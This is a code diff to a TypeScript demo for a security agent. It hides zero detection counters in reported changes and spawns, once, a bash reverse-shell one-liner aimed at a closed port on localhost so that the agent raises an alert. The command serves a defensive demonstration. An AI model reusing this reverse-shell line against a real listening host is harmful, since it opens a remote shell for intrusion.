@@ -180,7 +180,9 @@ export function showArrivals(hub: HubEmulator, say: Say): ReadonlyMap<string, nu
 
 /** Selects reported changes worth showing: without most counters, and without the list of defaults at the start. */
 function interesting(lines: readonly string[]): string[] {
-  const relevant = lines.filter((line) => !/lastRunAt|lastSentAt|\.delivery\.|\$version|\$metadata/.test(line));
+  const relevant = lines.filter(
+    (line) => !/lastRunAt|lastSentAt|\.delivery\.|\.detections\.\S+ = 0$|\$version|\$metadata/.test(line),
+  );
   const mirrored = relevant.filter((line) => line.startsWith(OBJECT));
   const healthy = relevant.flatMap((line) => /^securityAgent\.collectors\.(\w+)\.state = "on"$/.exec(line)?.[1] ?? []);
   const others = relevant.filter((line) => !line.startsWith(OBJECT) && !line.endsWith('.state = "on"'));
@@ -239,9 +241,19 @@ function asText(line: string): string {
   }
 }
 
-/** Starts programs, so that there are events even on an idle machine. */
+/**
+ * Looks like a reverse shell, and is harmless: nothing listens on that port of this machine, so the shell ends at once. It
+ * waits first, since without root the agent sees only what runs for a second.
+ */
+const LIKE_AN_ATTACK = 'sleep 2\nbash -i >& /dev/tcp/127.0.0.1/1 0>&1';
+
+/** Starts programs, so that there are events even on an idle machine, and once what must raise an alert. */
 async function runPrograms(say: Say, signal: AbortSignal): Promise<void> {
   await systemClock.sleep(seconds(3), signal);
+  if (!signal.aborted) {
+    say('demo', 'Ran what looks like a reverse shell, to a closed port of this machine: the agent raises an alert.');
+    spawn('/bin/sh', ['-c', LIKE_AN_ATTACK], { stdio: 'ignore' }).on('error', () => {});
+  }
   while (!signal.aborted) {
     say('demo', 'Ran: sleep 2');
     spawn('/bin/sleep', ['2'], { stdio: 'ignore' }).on('error', () => {});
